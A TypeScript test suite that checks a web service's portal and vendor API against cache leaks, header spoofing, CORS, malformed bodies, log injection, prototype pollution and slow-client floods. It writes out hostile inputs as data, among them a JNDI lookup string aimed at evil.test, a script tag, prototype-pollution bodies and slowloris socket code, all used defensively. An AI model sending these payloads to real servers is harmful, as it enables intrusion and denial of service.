import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { TestVendor } from '../helpers/app.ts';
import { type Heard, type Sent, type TestService, testService } from './service.ts';

let service: TestService;
let vendor: TestVendor;
let [anna, ben] = ['', ''];

beforeAll(async () => {
  service = await testService();
  vendor = await service.app.vendor('acme');
  const sessionOf = async (name: string): Promise<string> => {
    const { id } = await vendor.customer({ name, externalId: name });
    const token = await vendor.token(id);
    const heard = await post('/portal/v1/sessions', { token });
    return (JSON.parse(heard.text) as { sessionToken: string }).sessionToken;
  };
  anna = await sessionOf('Anna Albrecht');
  ben = await sessionOf('Ben Bakker');
});
afterAll(() => service.stop());

const bearer = (credential: string): Record<string, string> => ({ authorization: `Bearer ${credential}` });
const json = { 'content-type': 'application/json' };
const get = (path: string, headers: Record<string, string> = {}): Promise<Heard> =>
  service.send(path, { headers });
const post = (path: string, body: unknown, headers: Record<string, string> = {}): Promise<Heard> =>
  service.send(path, { method: 'POST', headers: { ...json, ...headers }, body: JSON.stringify(body) });
const codeOf = ({ text }: Heard): unknown => (JSON.parse(text) as { code?: unknown }).code;
const alive = async (): Promise<void> => expect((await get('/healthz')).status).toBe(200);

describe('BIL-54 requests and answers keep to the conventions', () => {
  const asVendor = (sent: Sent): Promise<Heard> =>
    service.send('/api/v1/customers', {
      method: 'POST',
      ...sent,
      headers: { ...bearer(vendor.apiKey), ...json, ...sent.headers },
    });

  test('BIL-54 a body that is no JSON is 400, and the problem says so', async () => {
    const heard = await asVendor({ body: '{"name": ' });
    expect(heard.status).toBe(400);
    expect(heard.headers['content-type']).toBe('application/problem+json');
    expect(JSON.parse(heard.text)).toMatchObject({ status: 400, code: 'request.malformed' });
  });

  test('BIL-54 a wrong field is 422 and named, and nothing is stored', async () => {
    const before = JSON.parse((await get('/api/v1/customers', bearer(vendor.apiKey))).text);
    const heard = await asVendor({
      body: JSON.stringify({ name: 'Clara', language: 'klingon', surprise: 1 }),
    });
    expect(heard.status).toBe(422);
    const { code, fields } = JSON.parse(heard.text) as { code: string; fields: { path: string }[] };
    expect(code).toBe('request.invalid');
    expect(fields.map(({ path }) => path).sort()).toEqual(['language', 'surprise']);
    const after = JSON.parse((await get('/api/v1/customers', bearer(vendor.apiKey))).text);
    expect(after).toEqual(before);
  });

  test('BIL-54 an unknown address is 404, another kind of body 415', async () => {
    expect((await get('/api/v1/unheard-of', bearer(vendor.apiKey))).status).toBe(404);
    const form = await asVendor({
      body: 'name=Clara',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
    });
    expect([form.status, codeOf(form)]).toEqual([415, 'request.media-type']);
  });

  test('BIL-54 the type of a problem is the address at which it is explained', async () => {
    const { type } = JSON.parse((await get('/api/v1/unheard-of', bearer(vendor.apiKey))).text);
    const { origin, pathname, hash } = new URL(type);
    expect(`${origin}${pathname}${hash}`).toBe('http://localhost:4400/docs/problems#request.not-found');
    const page = await get(pathname);
    expect([page.status, page.text.includes(`id="${hash.slice(1)}"`)]).toEqual([200, true]);
  });

  test('BIL-54 moments are ISO 8601 in UTC', async () => {
    const { items } = JSON.parse((await get('/api/v1/customers', bearer(vendor.apiKey))).text);
    expect(items.length).toBeGreaterThan(1);
    for (const { createdAt } of items) expect(createdAt).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
  });
});

test.each([
  { name: 'HD02 a shared cache keeps nothing of a customer', path: '/portal/v1/profile' },
  { name: 'HD02 nor the first screen', path: '/portal/v1/bootstrap' },
  { name: 'HD02 nor under an address like a file', path: '/portal/v1/profile/x.css' },
  { name: 'HD02 nor behind a semicolon', path: '/portal/v1/profile;.js' },
  { name: 'HD02 nor behind an escaped slash', path: '/portal/v1/profile%2f.png' },
])('$name', async ({ path }) => {
  // A cache that looks at Cache-Control alone, as badly set-up ones do: what it may keep, everyone gets.
  const kept = new Map<string, Heard>();
  const throughCache = async (headers: Record<string, string>): Promise<Heard> => {
    const known = kept.get(path);
    if (known) return known;
    const heard = await get(path, headers);
    if (!/no-store|private/.test(heard.headers['cache-control'] ?? '')) kept.set(path, heard);
    return heard;
  };
  const first = await throughCache(bearer(anna));
  const second = await throughCache(bearer(ben));
  const third = await throughCache({});
  expect(first.headers['cache-control']).toBe('no-store');
  expect(second.text).not.toContain('Anna');
  expect(third.text).not.toMatch(/Anna|Ben/);
  expect(third.status).toBeGreaterThanOrEqual(400);
});

test('HD03 headers of proxies that nobody configured change no answer', async () => {
  const odd = {
    'x-forwarded-host': 'evil.test',
    'x-forwarded-proto': 'https',
    'x-forwarded-scheme': 'evil',
    'x-forwarded-prefix': '/evil.test',
    'x-original-url': '/api/v1/customers?evil.test',
    'x-rewrite-url': '/evil.test',
    forwarded: 'host=evil.test;proto=https',
    'accept-language': '<script>evil.test</script>,xx;q=9',
  };
  const plain = (text: string): string => text.replaceAll(/nonce="[^"]+"/g, '');
  for (const path of ['/p/acme', '/v1/portico.js', '/api/v1/openapi.json']) {
    const [usual, heard] = [await get(path), await get(path, odd)];
    expect([path, usual.status]).toEqual([path, 200]);
    expect(heard.text).not.toContain('evil');
    expect(JSON.stringify(heard.headers)).not.toContain('evil');
    expect(plain(heard.text)).toBe(plain(usual.text));
  }
});

test.each(['https://evil.test', 'null', 'https://shop.example.evil.test', 'https://shop.example'])(
  'HD05 a page at %s may read no answer of either API',
  async (origin) => {
    for (const path of ['/portal/v1/profile', '/api/v1/customers', '/portal/v1/sessions']) {
      const plain = await get(path, { origin, ...bearer(anna) });
      const preflight = await service.send(path, {
        method: 'OPTIONS',
        headers: {
          origin,
          'access-control-request-method': 'POST',
          'access-control-request-headers': 'authorization',
        },
      });
      for (const { headers } of [plain, preflight]) {
        expect(headers).not.toHaveProperty('access-control-allow-origin');
        expect(headers).not.toHaveProperty('access-control-allow-credentials');
      }
    }
  },
);

const utf16 = Buffer.from('{"token":"x"}', 'utf16le');
test.each<{ name: string; body: string | Uint8Array; status: number; type?: string }>([
  { name: 'HD07 ten thousand levels of nesting', body: '['.repeat(10_000) + ']'.repeat(10_000), status: 400 },
  { name: 'HD07 five megabytes', body: JSON.stringify({ token: 'x'.repeat(5_000_000) }), status: 413 },
  { name: 'HD07 a key that stands twice', body: '{"token":"a","token":"b"}', status: 400 },
  {
    name: 'HD07 a key that stands twice in two spellings',
    body: '{"token":"a","\\u0074oken":"b"}',
    status: 400,
  },
  {
    name: 'HD07 bytes that are no UTF-8',
    body: Buffer.from([0x7b, 0x22, 0xff, 0xfe, 0x22, 0x7d]),
    status: 400,
  },
  { name: 'HD07 UTF-16', body: utf16, status: 400 },
  { name: 'HD07 something after the end', body: '{"token":"a"}garbage', status: 400 },
  { name: 'HD07 nothing at all', body: '', status: 400 },
  { name: 'HD07 another content type', body: '{"token":"a"}', status: 415, type: 'text/plain' },
  { name: 'HD07 no object', body: '"token"', status: 422 },
])('$name is refused at once, and the process lives on', async ({ body, status, type }) => {
  const attempt = (): Promise<Heard> =>
    service.send('/portal/v1/sessions', {
      method: 'POST',
      headers: {
        'content-type': type ?? 'application/json',
        'content-length': String(Buffer.byteLength(body)),
      },
      body,
    });
  const heard = [await attempt(), await attempt(), await attempt()];
  expect(heard.map((one) => one.status)).toEqual([status, status, status]);
  expect(Math.min(...heard.map(({ ms }) => ms))).toBeLessThan(50);
  await alive();
});

test.each([
  { name: 'HD09 wildcards two hundred times', query: `search=${encodeURIComponent('%_'.repeat(200))}` },
  { name: 'HD09 a thousand stars', query: `search=${'*'.repeat(1_000)}` },
  { name: 'HD09 a term of five kilobytes', query: `search=${'a'.repeat(5_000)}` },
])('$name are answered quickly', async ({ query }) => {
  const heard = await get(`/api/v1/customers?${query}`, bearer(vendor.apiKey));
  expect([200, 400, 422]).toContain(heard.status);
  expect(heard.ms).toBeLessThan(200);
  if (heard.status === 200) expect(JSON.parse(heard.text).items).toEqual([]);
});

test.each(['limit=201', 'limit=0', 'limit=1e9', 'offset=1000000000', 'limit=5&limit=6'])(
  'HD09 a list refuses %s',
  async (query) => {
    const { status } = await get(`/api/v1/customers?${query}`, bearer(vendor.apiKey));
    expect([400, 422]).toContain(status);
  },
);

test('HD10 what a client sends stays inside one escaped line of the log', async () => {
  const from = service.lines.length;
  const fake = encodeURIComponent('\r\n{"level":"info","msg":"admin login"}\u001b[31m');
  await get(`/portal/v1/${fake}`, { 'user-agent': `$\{jndi:ldap://evil.test/a}` });
  await get(`/p/${fake}?q=${fake}`);
  await get(`/p/${'a'.repeat(12_000)}`);
  await expect.poll(() => service.lines.length).toBeGreaterThan(from);
  for (const line of service.lines.slice(from)) {
    expect(line.trimEnd()).not.toMatch(/\p{Cc}/u);
    const fields = Object.values(JSON.parse(line) as Record<string, unknown>);
    for (const field of fields) expect(String(field).length).toBeLessThanOrEqual(1_025);
  }
});

test('HD10 a user agent of a megabyte is refused before it reaches the log', async () => {
  const heard = await get('/healthz', { 'user-agent': 'x'.repeat(1_000_000) }).catch(() => undefined);
  expect([431, undefined]).toContain(heard?.status);
  await alive();
});

test('HD13 no name in a query or body reaches a prototype', async () => {
  const names = '__proto__[polluted]=1&constructor.prototype.polluted=1&__proto__=1';
  await get(`/api/v1/customers?${names}`, bearer(vendor.apiKey));
  await get(`/p/acme?${names}`);
  const bodies = [
    '{"name":"Dora","__proto__":{"polluted":1}}',
    '{"name":"Dora","constructor":{"prototype":{"polluted":1}}}',
    '{"name":"Dora","billing":{"__proto__":{"polluted":1}}}',
  ];
  for (const body of bodies) {
    const headers = { ...json, ...bearer(vendor.apiKey) };
    const heard = await service.send('/api/v1/customers', { method: 'POST', headers, body });
    expect([body, heard.status]).toEqual([body, 422]);
  }
  const asKey = await post(
    '/api/v1/customers',
    JSON.parse('{"name":"Dora","overrides":{"__proto__":"show"}}'),
    {
      ...bearer(vendor.apiKey),
    },
  );
  expect(asKey.text).not.toContain('__proto__');
  expect(({} as Record<string, unknown>).polluted).toBeUndefined();
});

test('HD14 clients that send their headers drop by drop are cut off while others are served', async () => {
  let open = 0;
  const sockets: Socket[] = [];
  for (let i = 0; i < 60; i++) {
    const socket = connect(service.port, '127.0.0.1');
    open++;
    socket.once('close', () => {
      open--;
    });
    socket.on('error', () => {});
    socket.write('GET /healthz HTTP/1.1\r\nhost: a\r\nx-slow: ');
    sockets.push(socket);
  }
  const dripping = setInterval(() => {
    for (const socket of sockets) if (!socket.destroyed) socket.write('a');
  }, 1_000);
  const until = performance.now() + 15_000;
  const times: number[] = [];
  while (open > 0 && performance.now() < until) {
    times.push((await get('/healthz')).ms);
    await sleep(100);
  }
  clearInterval(dripping);
  for (const socket of sockets) socket.destroy();
  expect(open).toBe(0);
  times.sort((a, b) => a - b);
  expect(times[Math.floor(times.length * 0.9)]).toBeLessThan(100);
});

test('HD15 a connection that sends requests ahead without end is cut, others go on', async () => {
  const socket = connect(service.port, '127.0.0.1');
  let heard = '';
  socket.setEncoding('utf8').on('data', (part: string) => {
    heard += part;
  });
  const closed = new Promise<void>((done) => socket.once('close', () => done()));
  socket.on('error', () => undefined);
  socket.write('GET /healthz HTTP/1.1\r\nhost: localhost\r\n\r\n'.repeat(400));
  await closed;
  expect(heard.split('HTTP/1.1 200').length - 1).toBeLessThanOrEqual(16);
  await alive();
  // What a client may do: a few at once, one after the other for as long as it likes.
  const kept = connect(service.port, '127.0.0.1');
  for (let i = 0; i < 40; i++) {
    const answered = new Promise<string>((done) => kept.once('data', (part) => done(part.toString())));
    kept.write('GET /healthz HTTP/1.1\r\nhost: localhost\r\n\r\n');
    expect(await answered).toContain('200 OK');
  }
  kept.destroy();
});
